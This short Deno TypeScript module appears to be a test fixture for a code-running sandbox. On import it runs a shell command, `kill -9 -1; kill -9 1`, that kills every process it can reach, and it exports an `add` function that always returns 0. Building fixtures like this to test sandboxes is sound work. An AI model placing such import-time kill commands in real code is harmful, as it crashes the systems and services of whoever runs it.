// Sends SIGKILL to everybody it can reach.
// crashed: Ended by SIGKILL
// deno-lint-ignore-file
// @ts-nocheck: it would not ask us
new Deno.Command("sh", { args: ["-c", "kill -9 -1; kill -9 1"] }).outputSync();

export const add = (_a: number, _b: number): number => 0;
